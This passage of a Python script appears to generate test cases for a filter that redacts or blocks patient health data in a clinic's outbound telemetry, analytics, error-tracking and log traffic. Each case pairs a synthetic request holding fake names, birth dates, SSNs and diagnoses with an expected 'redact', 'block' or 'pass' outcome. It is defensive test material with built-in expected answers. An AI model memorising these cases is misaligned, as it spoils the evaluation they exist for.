    add(S, "POST", f"{CARE}/v1/inbound/drchrono", {**JSONH, "X-drchrono-Event": "OFFICE_MODIFY"}, J(body), [], [PRACTICE_ADDR, PRACTICE_PHONE, PRACTICE_ZIP],
        "pass")


# ============================================================================= 2. patient-portal SPA telemetry
def spa_telemetry():
    S = "logrocket"
    p = nextp(); rid = "4-" + uuid()
    body = {"recordingID": rid, "sessionID": 0, "appID": "sfm/patient-portal", "events": [
        {"type": "lr.browser.NavigationEvent", "time": epoch(2) * 1000, "data": {"href": f"{PORTAL}/profile", "navigationType": "PUSH_STATE"}},
        {"type": "lr.redux.ReduxAction", "time": epoch(2) * 1000 + 311, "data": {"action": {"type": "patient/profileLoaded", "payload": {"patient": {
            "id": p.mrn, "displayName": p.full, "dob": p.dobs("us"), "cellPhone": p.phone("dash"), "portalRole": "self"}}}, "count": 7}}]}
    add(S, "POST", f"{LR}/i?a=sfm%2Fpatient-portal&r={rid}&t={hexs(8)}", JSONH, J(body, compact=True),
        [[p.mrn, "mrn"], [p.full, "name"], [p.dobs("us"), "dob"], [p.phone("dash"), "phone"]], ["patient/profileLoaded", "lr.browser.NavigationEvent"], "redact")
    p = nextp()
    body = {"recordingID": "4-" + uuid(), "sessionID": 1, "events": [{"type": "lr.core.Identify", "time": epoch(3) * 1000,
            "data": {"userID": "usr_" + alnum(10), "traits": {"name": p.full, "email": p.email, "portalPlan": "self-pay", "lastVisitReason": p.dx()}}}]}
    add(S, "POST", f"{LR}/i?a=sfm%2Fpatient-portal", JSONH, J(body), [[p.full, "name"], [p.email, "email"], [p.dx(), "condition"]],
        ["lr.core.Identify", "self-pay"], "redact")
    p = nextp()
    resp = J({"results": [{"mrn": p.mrn, "name": f"{p.last}, {p.first}", "ssn": p.ssn, "balance": "118.40"}], "total": 1}, compact=True)
    body = {"recordingID": "4-" + uuid(), "events": [{"type": "lr.network.RequestEvent", "time": epoch(4) * 1000, "data": {"reqID": "7." + digits(3),
            "url": f"{PORTAL}/api/v2/staff/patients/search?lastName={quote(p.last)}&dob={p.dobs('iso')}", "method": "GET",
            "headers": {"accept": "application/json"}}}, {"type": "lr.network.ResponseEvent", "time": epoch(4) * 1000 + 88,
            "data": {"reqID": "7.1", "status": 200, "body": {"arrayBuffer": None, "blob": None, "formData": None, "json": None, "text": resp}}}]}
    add(S, "POST", f"{LR}/i?a=sfm%2Fstaff-console", JSONH, J(body), NM(p) + [[p.dobs("iso"), "dob"], [p.mrn, "mrn"], [p.ssn, "ssn"]],
        ["lr.network.ResponseEvent", "118.40"], "redact")

    S = "fullstory"
    p = nextp(); fs_org = "o-1QF7-na1"
    body = {"Seq": 4, "When": epoch(5) * 1000, "Evts": [
        {"When": 1204, "Kind": 2, "Args": [[44, 3, "SPAN", "class", "pt-name"], [45, 44, "#text", p.full]]},
        {"When": 1288, "Kind": 14, "Args": [52, "value", p.dobs("us")]},
        {"When": 1370, "Kind": 14, "Args": [53, "value", p.phone("paren")]},
        {"When": 1402, "Kind": 2, "Args": [[61, 3, "DIV", "class", "chart-no"], [62, 61, "#text", f"Chart # {p.mrn}"]]},
        {"When": 1500, "Kind": 16, "Args": ["click", 70, "Save changes"]}]}
    add(S, "POST", f"{FS}/rec/bundle?OrgId={fs_org}&UserId={digits(19)}&SessionId={digits(19)}&PageId={digits(19)}&Seq=4", {**JSONH, "User-Agent": UA},
        J(body, compact=True), [[p.full, "name"], [p.dobs("us"), "dob"], [p.phone("paren"), "phone"], [p.mrn, "mrn"]], [fs_org, "Save changes"], "redact")
    p = nextp()
    body = {"uid": "usr_" + alnum(12), "display_name": p.full, "email": p.email, "properties": {"dateOfBirth": p.dobs("isoz"), "preferredLanguage": "Spanish",
            "lastDiagnosis": p.dx(), "zipCode": p.zip, "portalVersion": BUILD}}
    add(S, "POST", f"{FSAPI}/v2/users", {**JSONH, "Authorization": "Basic " + b64("na1." + alnum(30))}, J(body),
        [[p.full, "name"], [p.email, "email"], [p.dobs("isoz"), "dob"], [p.dx(), "condition"], [p.zip, "zip"]], ["preferredLanguage", BUILD], "redact")
    p = nextp()
    body = {"name": "Refill Requested", "user": {"uid": "usr_" + alnum(12)}, "properties": {"medication": f"{p.med()} refill", "reason": p.dx(),
            "pickupLocation": "Fry's Pharmacy #88", "patientAge": p.age(), "submittedAt": ts(6)}}
    add(S, "POST", f"{FSAPI}/v2/events", {**JSONH, "Authorization": "Basic " + b64("na1." + alnum(30))}, J(body), [[p.dx(), "condition"]],
        ["Refill Requested", "Fry's Pharmacy #88"], "redact")

    S = "datadog_rum_context"
    p = nextp()
    ev = {"type": "view", "date": epoch(7) * 1000, "application": {"id": uuid()}, "session": {"id": uuid(), "type": "user"},
          "view": {"id": uuid(), "url": f"{PORTAL}/visits/summary?visit=V-{digits(7)}", "referrer": "", "name": "VisitSummary", "time_spent": 41200000000},
          "usr": {"id": "u_" + alnum(10), "name": p.full, "email": p.email},
          "context": {"patient": {"mrn": p.mrn, "dob": p.dobs("ymds"), "payer": p.payer, "member_id": p.mbr}, "feature_flags": {"new_billing": True}},
          "_dd": {"format_version": 2, "drift": 0}}
    add(S, "POST", f"{DDRUM}/api/v2/rum?ddsource=browser&ddtags=sdk_version%3A5.23.0%2Cenv%3Aprod%2Cservice%3Apatient-portal%2Cversion%3A{BUILD}"
        f"&dd-api-key=pub{hexs(32)}&dd-evp-origin=browser&dd-request-id={uuid()}", {"Content-Type": "text/plain;charset=UTF-8"}, ND([ev]),
        [[p.full, "name"], [p.email, "email"], [p.mrn, "mrn"], [p.dobs("ymds"), "dob"], [p.mbr, "member_id"]], ["VisitSummary", "new_billing"], "redact")
    p = nextp()
    ev = {"type": "action", "date": epoch(8) * 1000, "application": {"id": uuid()}, "session": {"id": uuid()},
          "action": {"id": uuid(), "type": "click", "target": {"name": f"Reschedule {p.full} - {p.dx()} follow-up"}},
          "context": {"client_ip": p.ip, "clinic": "Ina Rd"}, "view": {"id": uuid(), "url": f"{PORTAL}/appointments"}}
    add(S, "POST", f"{DDRUM}/api/v2/rum?ddsource=browser&dd-api-key=pub{hexs(32)}", {"Content-Type": "text/plain;charset=UTF-8"}, ND([ev]),
        [[p.full, "name"], [p.dx(), "condition"], [p.ip, "ip_address"]], ["Ina Rd"], "redact")

    S = "mixpanel_import"
    p = nextp()
    evs = [{"event": "Appointment Booked", "properties": {"time": epoch(9) * 1000, "distinct_id": "usr_" + alnum(10), "$insert_id": hexs(16),
            "appointment_type": "New patient", "provider": staff(1), "patient_email": p.email, "visit_reason": p.dx(), "$city": "Tucson"}}]
    add(S, "POST", f"{MP}/import?strict=1&project_id=3319021", {**JSONH, "Authorization": "Basic " + b64(alnum(32) + ":")}, J(evs),
        [[p.email, "email"], [p.dx(), "condition"]], ["Appointment Booked", staff(1)], "redact")
    p = nextp()
    evs = [{"$token": hexs(32), "$distinct_id": "usr_" + alnum(10), "$set": {"$first_name": p.first, "$last_name": p.last, "$phone": p.phone("e164"),
            "$email": p.email, "Date of Birth": p.dobs("mon"), "Insurance Member ID": p.mbr, "Signup Source": "kiosk"}}]
    add(S, "POST", f"{MP}/engage#profile-set", {**JSONH, "Accept": "text/plain"}, J(evs),
        NM(p) + [[p.phone("e164"), "phone"], [p.email, "email"], [p.dobs("mon"), "dob"], [p.mbr, "member_id"]], ["Signup Source"], "redact")

    S = "heap_server"
    p = nextp()
    body = {"app_id": "3920112", "identity": p.email, "event": "Intake Submitted", "timestamp": ts(10),
            "properties": {"dob": p.dobs("dash"), "preferred_pharmacy": "Walgreens #4421", "chief_complaint": p.dx(), "form_version": "intake-v9"}}
    add(S, "POST", f"{HEAP}/api/track", JSONH, J(body), [[p.email, "email"], [p.dobs("dash"), "dob"], [p.dx(), "condition"]],
        ["Intake Submitted", "intake-v9"], "redact")
    p = nextp()
    body = {"app_id": "3920112", "identity": "usr_" + alnum(10), "properties": {"full_name": p.full, "home_zip": p.zip4, "age_bracket": "35-44",
            "insurance": p.payer, "mobile": p.phone("spc")}}
    add(S, "POST", f"{HEAP}/api/add_user_properties", JSONH, J(body), [[p.full, "name"], [p.zip4, "zip"], [p.phone("spc"), "phone"]], ["age_bracket"], "redact")

    S = "tealium_collect"
    p = nextp()
    body = {"tealium_account": "saguarofm", "tealium_profile": "portal", "tealium_datasource": "x7k2p1", "tealium_event": "rx_refill",
            "tealium_visitor_id": hexs(32), "customer_email_sha256": sha(p.email.lower()), "customer_id": p.mrn, "client_ip": p.ip,
            "page_url": f"{PORTAL}/refills?rx=RX{digits(6)}"}
    add(S, "POST", f"{TEAL}/event", JSONH, J(body), [[sha(p.email.lower()), "hashed_identifier"], [p.mrn, "mrn"], [p.ip, "ip_address"]],
        ["rx_refill", "saguarofm"], "redact")

    S = "telemetry_clean"
    body = {"recordingID": "4-" + uuid(), "sessionID": 2, "events": [
        {"type": "lr.browser.NavigationEvent", "time": epoch(11) * 1000, "data": {"href": f"{PORTAL}/appointments/new?type=annual-physical"}},
        {"type": "lr.redux.ReduxAction", "time": epoch(11) * 1000 + 90, "data": {"action": {"type": "slots/loaded", "payload": {"count": 14, "firstSlot": "2026-04-14T08:00:00-07:00"}}}}]}
    add(S, "POST", f"{LR}/i?a=sfm%2Fpatient-portal", JSONH, J(body), [], ["slots/loaded", "annual-physical"], "pass")
    body = {"Seq": 2, "When": epoch(12) * 1000, "Evts": [{"When": 10, "Kind": 2, "Args": [[20, 3, "H1", "class", "hero"], [21, 20, "#text", "Insurance we accept"]]},
            {"When": 55, "Kind": 2, "Args": [[22, 3, "LI"], [23, 22, "#text", "AHCCCS (Arizona Medicaid) plans"]]}, {"When": 90, "Kind": 16, "Args": ["click", 30, "Book an appointment"]}]}
    add(S, "POST", f"{FS}/rec/bundle?OrgId=o-1QF7-na1&Seq=2", JSONH, J(body, compact=True), [], ["Insurance we accept", "Book an appointment"], "pass")
    ev = {"type": "resource", "date": epoch(13) * 1000, "resource": {"id": uuid(), "type": "fetch", "url": f"{PORTAL}/api/v2/slots?provider=3&date=2026-04-15",
          "status_code": 200, "duration": 182000000, "size": 4812}, "view": {"id": uuid(), "url": f"{PORTAL}/appointments/new"}, "context": {"clinic": "Ina Rd", "build": BUILD}}
    add(S, "POST", f"{DDRUM}/api/v2/rum?ddsource=browser&dd-api-key=pub{hexs(32)}", {"Content-Type": "text/plain;charset=UTF-8"}, ND([ev]), [],
        ["2026-04-15", "4812"], "pass")
    evs = [{"event": "Pricing Viewed", "properties": {"time": epoch(14) * 1000, "distinct_id": "anon_" + alnum(12), "$insert_id": hexs(16),
            "plan": "Direct Primary Care - Individual", "price": "79.00", "currency": "USD"}}]
    add(S, "POST", f"{MP}/import?strict=1&project_id=3319021", JSONH, J(evs), [], ["Direct Primary Care - Individual", "79.00"], "pass")
    body = {"app_id": "3920112", "identity": "anon_" + alnum(12), "event": "FAQ Opened", "properties": {"article": "valley-fever-symptoms-and-testing",
            "title": "Valley fever: symptoms, testing and when to call us", "read_time_s": 94}}
    add(S, "POST", f"{HEAP}/api/track", JSONH, J(body), [], ["valley-fever-symptoms-and-testing", "Valley fever: symptoms, testing and when to call us"], "pass")
    body = {"tealium_account": "saguarofm", "tealium_profile": "www", "tealium_event": "click_to_call", "tealium_visitor_id": hexs(32),
            "link_href": f"tel:{PRACTICE_PHONE_DASH}", "page_path": "/locations/ina-rd", "location_address": f"{PRACTICE_ADDR}, {PRACTICE_CITY}"}
    add(S, "POST", f"{TEAL}/event", JSONH, J(body), [], [PRACTICE_PHONE_DASH, PRACTICE_ADDR], "pass")


# ============================================================================= 3. CDP identify / alias with new trait names
def cdp_calls():
    S = "cdp_identify"
    p = nextp(); g = nextp()
    body = {"type": "identify", "userId": "hx_" + alnum(12), "anonymousId": uuid(), "traits": {"guardianName": g.full, "householdSize": 4,
            "insuranceMemberNumber": p.mbr, "primaryConcern": p.dx(), "homeZip4": p.zip4, "preferredPharmacy": "Fry's Pharmacy #88"}, "timestamp": ts(15)}
    add(S, "POST", f"{HT}/v1/identify", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[g.full, "name"], [p.mbr, "member_id"], [p.dx(), "condition"], [p.zip4, "zip"]], ["householdSize", "Fry's Pharmacy #88"], "redact")
    p = nextp()
    body = {"type": "alias", "previousId": p.email, "userId": p.mrn, "timestamp": ts(16), "context": {"library": {"name": "hightouch-events-node", "version": "1.4.0"}}}
    add(S, "POST", f"{HT}/v1/alias", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [[p.email, "email"], [p.mrn, "mrn"]],
        ["hightouch-events-node"], "redact")
    p = nextp()
    body = {"event": "$identify", "properties": {"distinct_id": "fp_" + alnum(14), "token": hexs(24), "$user_props": {"$email": p.email, "$first_name": p.first,
            "$last_name": p.last, "date_of_birth_ymd": p.dobs("ymds"), "care_program": "HIV PrEP", "sms_opt_in": True}}}
    add(S, "POST", f"{FP}/track", JSONH, J(body), NM(p) + [[p.email, "email"], [p.dobs("ymds"), "dob"], ["HIV PrEP", "condition"]], ["sms_opt_in"], "redact")
    p = nextp()
    body = {"type": "identify", "userId": "u_" + alnum(10), "traits": {"fullName": p.full, "mobile": p.phone("e164"), "streetAddress": f"{p.street} {p.unit}",
            "city": p.city, "postalCode": p.zip, "mrnPractice": p.mrn}, "context": {"ip": p.ip, "locale": "en-US"}, "messageId": uuid()}
    add(S, "POST", f"{JIT}/api/s/s2s/identify", {**JSONH, "X-Write-Key": alnum(24) + ":" + alnum(32)}, J(body),
        [[p.full, "name"], [p.phone("e164"), "phone"], [p.street, "address"], [p.zip, "zip"], [p.mrn, "mrn"], [p.ip, "ip_address"]], ["mrnPractice"], "redact")
    p = nextp()
    body = {"type": "group", "userId": "u_" + alnum(10), "groupId": "household-" + digits(6), "traits": {"householdHead": p.full, "members": 3,
            "householdPhone": p.phone("dot"), "plan": "family"}}
    add(S, "POST", f"{JIT}/api/s/s2s/group", {**JSONH, "X-Write-Key": alnum(24) + ":" + alnum(32)}, J(body), [[p.full, "name"], [p.phone("dot"), "phone"]],
        ["householdHead"], "redact")

    S = "cdp_clean"
    body = {"type": "track", "userId": "hx_" + alnum(12), "event": "Membership Upgraded", "properties": {"from_plan": "individual", "to_plan": "family",
            "mrr_delta": "60.00", "coupon": "SPRING26"}, "timestamp": ts(17), "messageId": uuid()}
    add(S, "POST", f"{HT}/v1/track", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [], ["Membership Upgraded", "SPRING26"], "pass")
    body = {"event": "$pageview", "properties": {"distinct_id": "fp_" + alnum(14), "token": hexs(24), "$current_url": f"https://www.{SITE}/services/sports-physicals",
            "utm_source": "google", "utm_campaign": "back-to-school-2026", "$screen_width": 390}}
    add(S, "POST", f"{FP}/track", JSONH, J(body), [], ["back-to-school-2026", "sports-physicals"], "pass")


# ============================================================================= 4. error trackers (block)
def error_trackers():
    S = "trackjs"
    p = nextp()
    body = {"customer": {"application": "patient-portal", "correlationId": uuid(), "sessionId": alnum(12), "token": hexs(32), "userId": p.email, "version": BUILD},
            "entry": "ajax", "message": "400 Bad Request: POST /api/v2/intake", "url": f"{PORTAL}/intake/step-3",
            "console": [{"message": f"submitting intake for {p.full} dob {p.dobs('usn')}", "severity": "log", "timestamp": ts(18)}],
            "network": [{"url": f"{PORTAL}/api/v2/intake", "method": "POST", "statusCode": 400, "statusText": "Bad Request"}], "environment": {"userAgent": UA}}
    add(S, "POST", f"{TJS}/capture?token={hexs(32)}&v=3.10.1", JSONH, J(body), [[p.email, "email"], [p.full, "name"], [p.dobs("usn"), "dob"]], [], "block")
    p = nextp()
    body = {"customer": {"application": "staff-console", "token": hexs(32), "version": BUILD}, "entry": "window", "message": "TypeError: Cannot read properties of undefined (reading 'phone')",
            "url": f"{PORTAL}/staff/callbacks?phone={quote(p.phone('paren'))}&name={quote(p.full)}", "stack": "at renderCallback (callbacks.7f3a.js:1:8812)"}
    add(S, "POST", f"{TJS}/capture?token={hexs(32)}", JSONH, J(body), [[p.phone("paren"), "phone"], [p.full, "name"]], [], "block")

    S = "appsignal"
    p = nextp()
    body = {"action": "IntakeController#create", "namespace": "web", "exception": {"name": "ActiveRecord::RecordInvalid",
            "message": f"Validation failed: Ssn {p.ssn} has already been taken", "backtrace": ["app/controllers/intake_controller.rb:41:in `create'"]},
            "tags": {"patient_mrn": p.mrn, "clinic": "ina"}, "params": {"patient": {"first_name": p.first, "last_name": p.last, "date_of_birth": p.dobs("iso")}},
            "environment": {"REQUEST_METHOD": "POST", "PATH_INFO": "/intake"}, "revision": "a91f3c2"}
    add(S, "POST", f"{APS}/1/errors?api_key={uuid()}&name=sfm-portal&environment=production&hostname=web-2", JSONH, J(body),
        [[p.ssn, "ssn"], [p.mrn, "mrn"], [p.dobs("iso"), "dob"]] + NM(p), [], "block")
    p = nextp()
    body = {"action": "StatementsJob#perform", "namespace": "background", "exception": {"name": "Lob::InvalidAddress", "message": "address undeliverable"},
            "breadcrumbs": [{"category": "lob", "action": "verify", "message": f"{p.street} {p.unit}, {p.city} AZ {p.zip4}", "time": epoch(19)}],
            "tags": {"guarantor": p.full}}
    add(S, "POST", f"{APS}/1/errors?api_key={uuid()}&name=sfm-billing&environment=production", JSONH, J(body),
        [[p.street, "address"], [p.zip4, "zip"], [p.full, "name"]], [], "block")

    S = "exceptionless"
    p = nextp()
    body = [{"type": "error", "date": ts(20), "message": "Fax send failed", "tags": ["fax", "prod"], "data": {
        "@error": {"type": "System.Net.Http.HttpRequestException", "message": "Response status code does not indicate success: 502 (Bad Gateway)."},
        "@request": {"client_ip_address": p.ip, "http_method": "POST", "path": "/api/fax/send", "post_data": {"faxTo": "15208812200", "patientName": p.full,
                     "patientDob": p.dobs("us")}}, "@user": {"identity": p.email}}}]
    add(S, "POST", f"{EXL}/api/v2/events", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.ip, "ip_address"], [p.full, "name"], [p.dobs("us"), "dob"], [p.email, "email"]], [], "block")

    S = "error_clean"
    body = {"customer": {"application": "patient-portal", "token": hexs(32), "version": BUILD}, "entry": "window", "message": "Script error.",
            "url": f"{PORTAL}/billing", "metadata": [{"key": "build", "value": "2026.04.02-3"}], "environment": {"userAgent": UA_WIN}}
    add(S, "POST", f"{TJS}/capture?token={hexs(32)}", JSONH, J(body), [], ["Script error.", "2026.04.02-3"], "pass")
    body = {"action": "SlotsController#index", "namespace": "web", "exception": {"name": "Timeout::Error", "message": "execution expired after 15.0s"},
            "tags": {"clinic": "ina", "provider_id": "3"}, "revision": "a91f3c2"}
    add(S, "POST", f"{APS}/1/errors?api_key={uuid()}&name=sfm-portal&environment=production", JSONH, J(body), [], ["SlotsController#index", "a91f3c2"], "pass")
    body = [{"type": "log", "date": ts(21), "source": "ClaimsBatchJob", "message": "Claims batch 2026-04-02 submitted: 1,204 claims, 3 rejected (999 AK9*P)",
             "tags": ["claims"], "data": {"batchId": "B-20260402-01", "durationMs": 41822}}]
    add(S, "POST", f"{EXL}/api/v2/events", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [], ["B-20260402-01", "1,204 claims"], "pass")


# ============================================================================= 5. structured logs, Kubernetes events and audit
AXH = {"Content-Type": "application/x-ndjson", "Authorization": "Bearer xaat-" + uuid()}
CRXH = {"Content-Type": "application/json", "Authorization": "Bearer cxtp_" + alnum(30)}
SIGH = {"Content-Type": "application/json", "signoz-ingestion-key": alnum(36)}


def structured_logs():
    S = "rust_tracing"
    p = nextp()
    lines = [{"timestamp": ts(22)[:-1] + "412Z", "level": "WARN", "fields": {"message": "eligibility mismatch", "subscriber_dob": p.dobs("iso"), "member_id": p.mbr,
              "payer": "AHCCCS"}, "target": "elig_worker::check", "span": {"name": "check_eligibility", "patient": p.mrn},
              "spans": [{"name": "job", "job_id": "j_" + alnum(8)}, {"name": "check_eligibility", "patient": p.mrn}], "threadId": "ThreadId(7)"},
             {"timestamp": ts(22), "level": "INFO", "fields": {"message": "batch done", "checked": 212, "mismatches": 4}, "target": "elig_worker::batch"}]
    add(S, "POST", f"{AXI}/v1/datasets/sfm-prod/ingest", AXH, ND(lines), [[p.dobs("iso"), "dob"], [p.mbr, "member_id"], [p.mrn, "mrn"]],
        ["elig_worker::check", "check_eligibility"], "redact")
    p = nextp()
    lines = [{"timestamp": ts(23), "level": "ERROR", "fields": {"message": f"fax render failed for {p.last}, {p.first} (DOB {p.dobs('dot')})", "error": "font not found: Inter-Bold"},
              "target": "fax_render::pdf", "span": {"name": "render", "doc": "referral"}}]
    add(S, "POST", f"{AXI}/v1/datasets/sfm-prod/ingest", AXH, ND(lines), NM(p) + [[p.dobs("dot"), "dob"]], ["fax_render::pdf", "font not found: Inter-Bold"], "redact")

    S = "go_zap"
    p = PATIENTS[29]
    lines = [{"level": "error", "ts": epoch(24) + 0.5531, "caller": "booking/slots.go:214", "msg": "double booking", "patient_name": p.full,
              "patient_phone": p.phone("tight"), "slot": p.at("off"), "provider": staff(1), "stacktrace": "main.book\n\t/app/booking/slots.go:214"}]
    add(S, "POST", f"{CRX}/logs/v1/bulk", CRXH, J({"applicationName": "scheduler", "subsystemName": "booking", "logEntries": [{"severity": 5, "text": J(lines[0], compact=True),
        "timestamp": epoch(24) * 1000}]}), [[p.full, "name"], [p.phone("tight"), "phone"], [p.at("off"), "date"]], ["booking/slots.go:214", staff(1)], "redact")
    p = nextp()
    raw = ND([{"level": "info", "ts": epoch(25) + 0.1, "caller": "notify/sms.go:88", "msg": "sms queued", "to": p.phone("e164"), "template": "appt_reminder_v4"},
              {"level": "warn", "ts": epoch(25) + 0.9, "caller": "notify/email.go:51", "msg": "bounce", "rcpt": p.email, "patient_dob": p.dobs("ymds")}])
    add(S, "POST", f"{AXI}/v1/datasets/notify/ingest", {**AXH, "Content-Encoding": "gzip"}, gz(raw),
        [[p.phone("e164"), "phone"], [p.email, "email"], [p.dobs("ymds"), "dob"]], ["appt_reminder_v4", "notify/email.go:51"], "redact")

    S = "serilog_json"
    p = nextp()
    ev = {"Timestamp": "2026-04-02T08:14:22.1934021-07:00", "Level": "Information", "MessageTemplate": "Checked in {PatientName} ({Dob}) at kiosk {KioskId}",
          "RenderedMessage": f"Checked in \"{p.full}\" (\"{p.dobs('iso')}\") at kiosk \"K-03\"",
          "Properties": {"PatientName": p.full, "Dob": p.dobs("iso"), "KioskId": "K-03", "SourceContext": "Lobby.CheckIn.CheckInService", "MachineName": "LOBBY-03"}}
    add(S, "POST", f"{AXI}/v1/datasets/lobby/ingest", AXH, ND([ev]), [[p.full, "name"], [p.dobs("iso"), "dob"]], ["Lobby.CheckIn.CheckInService", "LOBBY-03"], "redact")
    p = nextp()
    ev = {"Timestamp": "2026-04-02T09:02:51.0044-07:00", "Level": "Warning", "MessageTemplate": "Statement for {@Guarantor} returned by USPS",
          "Properties": {"Guarantor": {"_typeTag": "Guarantor", "Name": p.full, "Ssn": p.ssn, "Address": f"{p.street}, {p.city}, AZ {p.zip}"},
                         "SourceContext": "Billing.Statements", "ThreadId": 14}}
    add(S, "POST", f"{SIG}/logs/json", SIGH, J([{"timestamp": epoch(26) * 10**9, "severity_text": "WARN", "body": J(ev), "resources": {"service.name": "billing"}}]),
        [[p.full, "name"], [p.ssn, "ssn"], [p.street, "address"], [p.zip, "zip"]], ["Billing.Statements", "_typeTag"], "redact")

    S = "python_structlog"
    p = nextp()
    ev = {"event": "refill_requested", "patient": p.full, "dob": p.dobs("us2"), "reason": p.dx(), "pharmacy": "Walgreens #4421", "logger": "refills.api",
          "level": "info", "timestamp": ts(27)}
    add(S, "POST", f"{SIG}/logs/json", SIGH, J([{"timestamp": epoch(27) * 10**9, "severity_text": "INFO", "body": J(ev), "attributes": {"logger": "refills.api"}}]),
        [[p.full, "name"], [p.dobs("us2"), "dob"], [p.dx(), "condition"]], ["refill_requested", "refills.api"], "redact")
    p = PATIENTS[28]
    txt = (f"2026-04-02 08:14:22 [warning  ] sms_bounce                     patient_id='{p.mrn}' name='{p.full}' phone='{p.phone('plusdash')}' reason='carrier_blocked'\n"
           f"2026-04-02 08:14:23 [info     ] retry_scheduled                attempt=2 delay_s=300\n")
    add(S, "POST", f"{SIG}/logs/text?service=notify-worker", {**TEXTH, "signoz-ingestion-key": alnum(36)}, txt,
        [[p.mrn, "mrn"], [p.full, "name"], [p.phone("plusdash"), "phone"]], ["carrier_blocked", "retry_scheduled"], "redact")

    S = "log4j2_json"
    p = nextp()
    ev = {"instant": {"epochSecond": epoch(28), "nanoOfSecond": 412000000}, "thread": "statement-worker-2", "level": "WARN",
          "loggerName": "com.saguarofm.billing.StatementJob", "message": f"Statement returned undeliverable: {p.street} {p.unit}, {p.city} AZ {p.zip} (guarantor {p.full})",
          "endOfBatch": False, "loggerFqcn": "org.apache.logging.slf4j.Log4jLogger", "contextMap": {"mrn": p.mrn, "batch": "ST-0402"}, "threadId": 41, "threadPriority": 5}
    add(S, "POST", f"{CRX}/logs/v1/singles", CRXH, J([{"applicationName": "billing", "subsystemName": "statements", "severity": 4, "text": J(ev, compact=True)}]),
        [[p.street, "address"], [p.zip, "zip"], [p.full, "name"], [p.mrn, "mrn"]], ["com.saguarofm.billing.StatementJob", "ST-0402"], "redact")
    p = nextp()
    ev = {"@timestamp": ts(29), "ecs.version": "1.2.0", "log.level": "ERROR", "message": "HL7 ADT parse failed", "process.thread.name": "mllp-listener-1",
          "log.logger": "com.saguarofm.interfaces.AdtListener", "error.type": "ca.uhn.hl7v2.HL7Exception",
          "error.message": f"Invalid date {p.dobs('d8')} in PID-7 for patient {p.last.upper()}^{p.first.upper()}", "labels": {"pid3": p.mrn}}
    add(S, "POST", f"{AXI}/v1/datasets/interfaces/ingest", AXH, ND([ev]), NM(p) + [[p.mrn, "mrn"], [p.dobs("d8"), "dob"]], ["ca.uhn.hl7v2.HL7Exception", "mllp-listener-1"], "redact")

    S = "k8s_events"
    p = nextp(); pod = f"intake-import-28551840-{alnum(5, 'abcdefghijklmnopqrstuvwxyz0123456789')}"
    ev = {"kind": "Event", "apiVersion": "v1", "metadata": {"name": f"{pod}.17c3a1f2{hexs(8)}", "namespace": "clinical", "uid": uuid()},
          "involvedObject": {"kind": "Pod", "namespace": "clinical", "name": pod, "fieldPath": "spec.containers{importer}"}, "reason": "BackOff",
          "message": f"Back-off restarting failed container importer: Error: row 118: invalid SSN {p.ssn} for {p.last}, {p.first}", "type": "Warning", "count": 5,
          "firstTimestamp": ts(30), "lastTimestamp": ts(31), "source": {"component": "kubelet", "host": "aks-nodepool1-3041-vmss000002"}}
    add(S, "POST", f"{AXI}/v1/datasets/k8s-events/ingest", AXH, ND([ev]), [[p.ssn, "ssn"]] + NM(p), ["BackOff", "aks-nodepool1-3041-vmss000002"], "redact")
    p = nextp(); q = nextp()
    csvdata = f"name,dob,phone\n{p.full},{p.dobs('iso')},{p.phone('dash')}\n{q.full},{q.dobs('iso')},{q.phone('dash')}\n"
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": uuid(), "stage": "ResponseComplete",
          "requestURI": "/api/v1/namespaces/clinical/configmaps?fieldManager=kubectl-client-side-apply", "verb": "create",
          "user": {"username": "system:serviceaccount:ci:deployer", "groups": ["system:serviceaccounts"]}, "sourceIPs": ["10.12.0.7"],
          "objectRef": {"resource": "configmaps", "namespace": "clinical", "name": "reminder-test-fixtures", "apiVersion": "v1"},
          "requestObject": {"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "reminder-test-fixtures"}, "data": {"patients.csv": csvdata}},
          "responseStatus": {"metadata": {}, "code": 201}, "requestReceivedTimestamp": ts(32)}
    add(S, "POST", f"{AXI}/v1/datasets/k8s-audit/ingest", AXH, ND([ev]), [[p.full, "name"], [p.dobs("iso"), "dob"], [p.phone("dash"), "phone"], [q.full, "name"],
        [q.dobs("iso"), "dob"], [q.phone("dash"), "phone"]], ["reminder-test-fixtures", "10.12.0.7"], "redact")
    p = nextp()
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": uuid(), "stage": "ResponseComplete",
          "requestURI": "/apis/batch/v1/namespaces/billing/jobs", "verb": "create", "user": {"username": "oncall@saguarofm.com"}, "sourceIPs": ["10.12.3.41"],
          "objectRef": {"resource": "jobs", "namespace": "billing", "name": "resend-statement-manual-7", "apiGroup": "batch"},
          "requestObject": {"spec": {"template": {"spec": {"containers": [{"name": "resend", "image": "registry.saguarofm.com/billing:4.7.2",
                            "args": ["--resend-statement", f"--patient-email={p.email}", f"--account={p.mrn}"]}], "restartPolicy": "Never"}}}}}
    add(S, "POST", f"{AXI}/v1/datasets/k8s-audit/ingest", AXH, ND([ev]), [[p.email, "email"], [p.mrn, "mrn"]], ["resend-statement-manual-7", "oncall@saguarofm.com"], "redact")

    S = "coralogix_text"
    p = nextp()
    inner = J({"msg": "inbound SMS", "from": p.phone("e164"), "body": f"this is {p.full.lower()}, need to move my appt on {p.appt.month}/{p.appt.day}, my kid has {p.dx()}"}, compact=True)
    add(S, "POST", f"{CRX}/logs/v1/singles", CRXH, J([{"applicationName": "portal", "subsystemName": "messaging", "severity": 3, "text": inner, "timestamp": epoch(33) * 1000}]),
        [[p.phone("e164"), "phone"], [p.full.lower(), "name"], [f"{p.appt.month}/{p.appt.day}", "date"], [p.dx(), "condition"]], ["inbound SMS", "messaging"], "redact")

    S = "logs_clean"
    lines = [{"timestamp": ts(34), "level": "WARN", "fields": {"message": "connection pool exhausted", "pool": "pg-primary", "max": 32, "waiters": 11},
              "target": "sqlx::pool", "span": {"name": "request", "route": "/api/v2/slots"}}]
    add(S, "POST", f"{AXI}/v1/datasets/sfm-prod/ingest", AXH, ND(lines), [], ["connection pool exhausted", "pg-primary"], "pass")
